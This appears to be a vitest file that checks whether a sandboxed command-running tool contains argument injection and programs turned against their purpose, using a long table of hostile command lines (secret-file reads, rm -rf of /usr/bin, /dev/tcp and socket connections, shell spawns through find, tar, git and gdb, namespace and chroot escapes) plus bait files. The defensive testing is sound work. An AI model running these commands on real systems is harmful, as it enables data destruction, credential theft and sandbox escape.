/** The rows of argument injection, and programs misused, through the whole pipeline with the program allowed. */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ToolResult } from '../../src/domain/execution.js';
import { createTestHelve, type TestHelve } from '../../src/testing/index.js';
import { readAttacks } from '../data/attacks.js';
import { type Ground, missing, openGround, tarOf, wall } from './ground.js';

interface Row {
  readonly id: string;
  readonly bin: string;
  readonly argv: readonly string[];
  readonly env?: Readonly<Record<string, string>>;
  readonly expect: string;
}

const rows = readAttacks<Row>('arg-injection');
const isPresent = (bin: string) =>
  ['/usr/local/bin', '/usr/bin', '/bin'].some((folder) => existsSync(`${folder}/${bin}`));
const isPlainName = (bin: string) => /^[\w.+-]+$/.test(bin);
/** A row about a name or about input always runs; others need their program. */
const runnable = rows.filter(({ bin }) => !isPlainName(bin) || bin.includes('.exe') || isPresent(bin));

let ground: Ground;
let helve: TestHelve;
let web: Server | undefined;
const webKnocks: string[] = [];

beforeAll(async () => {
  ground = await openGround();
  // Rows that call plain http://127.0.0.1; only root may listen there.
  web = await new Promise<Server | undefined>((resolve) => {
    const server = createServer((socket) => {
      webKnocks.push('port 80');
      socket.destroy();
    });
    server.once('error', () => resolve(undefined)).listen(80, '127.0.0.1', () => resolve(server));
  });
  const names = [...new Set([...rows.map(({ bin }) => bin), ...turned.map(([name]) => name), 'git', 'cat'])];
  helve = await createTestHelve({
    granted: ['run_command'],
    toolConfig: {
      run_command: { allowed_commands: names.filter((name) => isPlainName(name)), timeout_seconds: 8, disk_mb: 8 },
    },
  });
});
afterAll(async () => {
  web?.close();
  await helve.close();
  await ground.close();
  await wall.close();
});

function assertHeld(result: ToolResult): void {
  expect(ground.leaks(JSON.stringify(result))).toEqual([]);
  expect([...ground.touched(), ...webKnocks.splice(0)]).toEqual([]);
  expect(existsSync('/tmp/helve-pwned') || existsSync('/usr/local/bin/helve-pwned')).toBe(false);
}

const baitFiles = () => ({
  f: 'b\na\n',
  'x.js': 'console.log(require("fs").readFileSync("/etc/passwd","utf8"), process.env)',
  'x.patch': '--- /dev/null\n+++ b/tmp/helve-pwned\n@@ -0,0 +1 @@\n+pwned\n',
  'x.tar': Buffer.from(tarOf(`${ground.folder}/from-tar`)).toString('latin1'),
  'package.json': '{"name":"x","version":"1.0.0","scripts":{"x":"cat /etc/passwd; env; touch /tmp/helve-pwned"}}',
});

describe.skipIf(missing)('rows of argument injection', () => {
  test(`R-shell: ${runnable.length} of ${rows.length} rows can run here, the rest lack their program`, () => {
    expect(runnable.length).toBeGreaterThan(rows.length / 2);
  });

  test.for(runnable)('R-shell: contained: $id $bin', async ({ bin, argv, env, expect: expected }) => {
    const input = bin === '*' ? { argv: ['cat', 'f'], env } : { argv: [bin, ...argv] };
    const result = await helve.call('run_command', { ...input, files: baitFiles(), timeout: 3 });
    assertHeld(result);
    if (expected.startsWith('refused') && !expected.includes(' or ')) expect(result.ok).toBe(false);
    if (env) expect(result).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
  });
});

/** Program, misuse, arguments. SECRET, FOLDER and PORT stand for the host's. */
const turned: readonly (readonly [
  string,
  'read' | 'write' | 'command' | 'reverse' | 'privileges',
  readonly string[],
])[] = [
  ['cat', 'read', ['SECRET', '/etc/shadow', '/etc/passwd']],
  ['head', 'read', ['-c', '1000', 'SECRET']],
  ['tail', 'read', ['-c', '1000', 'SECRET']],
  ['cut', 'read', ['-d', '', '-f', '1', 'SECRET']],
  ['sort', 'read', ['-m', 'SECRET']],
  ['uniq', 'read', ['SECRET']],
  ['nl', 'read', ['-b', 'a', 'SECRET']],
  ['tac', 'read', ['-s', 'x', 'SECRET']],
  ['rev', 'read', ['SECRET']],
  ['fold', 'read', ['-w', '9999', 'SECRET']],
  ['fmt', 'read', ['-9999', 'SECRET']],
  ['od', 'read', ['-An', '-c', 'SECRET']],
  ['base64', 'read', ['SECRET']],
  ['xxd', 'read', ['SECRET']],
  ['strings', 'read', ['SECRET']],
  ['grep', 'read', ['', 'SECRET']],
  ['awk', 'read', ['//', 'SECRET']],
  ['sed', 'read', ['', 'SECRET']],
  ['dd', 'read', ['if=SECRET']],
  ['diff', 'read', ['--line-format=%L', '/dev/null', 'SECRET']],
  ['comm', 'read', ['SECRET', '/dev/null']],
  ['join', 'read', ['-a', '1', 'SECRET', '/dev/null']],
  ['paste', 'read', ['SECRET']],
  ['pr', 'read', ['-T', 'SECRET']],
  ['date', 'read', ['-f', 'SECRET']],
  ['file', 'read', ['-f', 'SECRET']],
  ['curl', 'read', ['-s', 'file://SECRET']],
  ['openssl', 'read', ['enc', '-in', 'SECRET']],
  ['git', 'read', ['diff', '--no-index', '/dev/null', 'SECRET']],
  ['python3', 'read', ['-c', 'print(open("SECRET").read())']],
  ['perl', 'read', ['-ne', 'print', 'SECRET']],
  ['node', 'read', ['-p', 'require("fs").readFileSync("SECRET","utf8")']],
  ['gcc', 'read', ['-x', 'c', '-E', 'SECRET']],
  ['tar', 'read', ['cPf', '-', 'SECRET']],
  ['find', 'read', ['SECRET', '-exec', 'cat', '{}', ';']],
  ['xargs', 'read', ['-a', 'SECRET']],
  ['bash', 'read', ['-c', 'echo "$(<SECRET)"']],
  ['tee', 'write', ['FOLDER/made']],
  ['cp', 'write', ['f', 'FOLDER/made']],
  ['mv', 'write', ['f', 'FOLDER/made']],
  ['install', 'write', ['-m', '4755', 'f', 'FOLDER/made']],
  ['ln', 'write', ['-s', 'f', 'FOLDER/made']],
  ['dd', 'write', ['if=f', 'of=FOLDER/made']],
  ['sed', 'write', ['-n', 'w FOLDER/made', 'f']],
  ['awk', 'write', ['BEGIN { print "x" > "FOLDER/made" }']],
  ['sort', 'write', ['-o', 'FOLDER/made', 'f']],
  ['touch', 'write', ['FOLDER/made', '/usr/local/bin/helve-pwned']],
  ['mkdir', 'write', ['FOLDER/made']],
  ['rm', 'write', ['-rf', 'FOLDER', '/usr/bin', '--no-preserve-root']],
  ['chmod', 'write', ['-R', '777', '/usr/bin', 'FOLDER']],
  ['truncate', 'write', ['-s', '0', 'SECRET']],
  ['shred', 'write', ['-u', 'SECRET']],
  ['split', 'write', ['f', 'FOLDER/made']],
  ['tar', 'write', ['Pxf', 'x.tar']],
  ['git', 'write', ['init', 'FOLDER/made']],
  ['curl', 'write', ['-s', 'file:///work/f', '-o', 'FOLDER/made']],
  ['python3', 'write', ['-c', 'open("FOLDER/made","w").write("x")']],
  ['env', 'command', ['sh', '-c', 'env; cat SECRET; touch FOLDER/made']],
  ['find', 'command', ['.', '-exec', 'sh', '-c', 'cat SECRET', ';']],
  ['xargs', 'command', ['-a', 'f', 'sh', '-c', 'cat SECRET; touch FOLDER/made']],
  ['nice', 'command', ['sh', '-c', 'cat SECRET']],
  ['timeout', 'command', ['5', 'sh', '-c', 'cat SECRET']],
  ['setsid', 'command', ['-f', 'sh', '-c', 'sleep 1; touch FOLDER/made']],
  ['nohup', 'command', ['sh', '-c', 'cat SECRET']],
  ['stdbuf', 'command', ['-i0', 'sh', '-c', 'cat SECRET']],
  ['flock', 'command', ['-u', '/work/f', 'sh', '-c', 'cat SECRET']],
  ['awk', 'command', ['BEGIN { system("cat SECRET; touch FOLDER/made") }']],
  ['sed', 'command', ['-n', '1e cat SECRET', 'f']],
  ['tar', 'command', ['cf', '/dev/null', 'f', '--checkpoint=1', '--checkpoint-action=exec=cat SECRET']],
  ['git', 'command', ['-c', 'alias.x=!cat SECRET', 'x']],
  ['script', 'command', ['-q', '-c', 'cat SECRET', '/dev/null']],
  ['make', 'command', ['--eval=x:\n\tcat SECRET', 'x']],
  ['perl', 'command', ['-e', 'exec "cat", "SECRET"']],
  ['ed', 'command', ['-s', 'f']],
  ['gdb', 'command', ['-nx', '-batch', '-ex', '!cat SECRET']],
  ['strace', 'command', ['-o', '/dev/null', 'cat', 'SECRET']],
  ['bash', 'reverse', ['-c', 'exec 5<>/dev/tcp/127.0.0.1/PORT; cat <&5']],
  ['curl', 'reverse', ['-s', '-m', '2', 'telnet://127.0.0.1:PORT']],
  ['wget', 'reverse', ['-q', '-T', '2', '-t', '1', '-O', '-', 'http://127.0.0.1:PORT/']],
  ['openssl', 'reverse', ['s_client', '-connect', '127.0.0.1:PORT']],
  ['python3', 'reverse', ['-c', 'import socket; socket.create_connection(("127.0.0.1",PORT),2).send(b"x")']],
  ['node', 'reverse', ['-e', 'require("net").connect(PORT,"127.0.0.1").on("error",()=>{})']],
  [
    'perl',
    'reverse',
    ['-e', 'use Socket; socket(S,2,1,6); connect(S,sockaddr_in(PORT,inet_aton("127.0.0.1"))) && print "in"'],
  ],
  ['ssh', 'reverse', ['-o', 'ConnectTimeout=2', '-o', 'ProxyCommand=sh -c "cat SECRET >&2"', 'x']],
  ['su', 'privileges', ['-c', 'cat /etc/shadow']],
  ['mount', 'privileges', ['--bind', '/proc/1/root', '/work']],
  ['unshare', 'privileges', ['-Urm', 'cat', '/etc/shadow']],
  ['chroot', 'privileges', ['/proc/1/root', 'cat', 'SECRET']],
  ['nsenter', 'privileges', ['-t', '1', '-m', 'cat', 'SECRET']],
  ['bwrap', 'privileges', ['--ro-bind', '/', '/', 'cat', 'SECRET']],
  ['setpriv', 'privileges', ['--reuid', '0', 'cat', '/etc/shadow']],
  ['chsh', 'privileges', ['-s', '/bin/sh']],
];
const presentTurned = turned.filter(([name]) => isPresent(name));

const filled = (argv: readonly string[]) =>
  argv.map((argument) =>
    argument.replace('SECRET', ground.secretFile).replace('FOLDER', ground.folder).replace('PORT', String(ground.port)),
  );

describe.skipIf(missing)('programs turned against their purpose', () => {
  test.for(presentTurned)('R-shell: contained: %s to %s', async ([program, , argv]) => {
    const result = await helve.call('run_command', {
      argv: [program, ...filled(argv)],
      files: baitFiles(),
      timeout: 3,
    });
    expect(result.ok, JSON.stringify(result)).toBe(true);
    assertHeld(result);
    // They are not written as text.
    const said = result.ok ? (result.output as { stdout: string }).stdout : '';
    expect(ground.leaks(Buffer.from(said, 'base64').toString())).toEqual([]);
    expect(ground.leaks(said.trim().split('').reverse().join(''))).toEqual([]);
  });

  test('R-shell: the searched data exists: outside, readers read it and writers write it', () => {
    const readers = ['cat', 'head', 'tail', 'nl', 'grep', 'sed', 'dd', 'awk'];
    for (const [name, , argv] of presentTurned.filter(([name, aim]) => aim === 'read' && readers.includes(name))) {
      const said = execFileSync(
        name,
        filled(argv).filter((each) => !each.startsWith('/etc')),
        { encoding: 'utf8', stdio: 'pipe' },
      );
      expect(ground.leaks(said), name).toHaveLength(1);
    }
    expect(ground.leaks(readFileSync('/etc/passwd', 'utf8')).length).toBeGreaterThan(0);
    execFileSync('touch', filled(['FOLDER/made']));
    expect(ground.touched()).toEqual(['the folder of the host']);
    execFileSync('rm', filled(['FOLDER/made']));
    expect(ground.touched()).toEqual([]);
  });
});
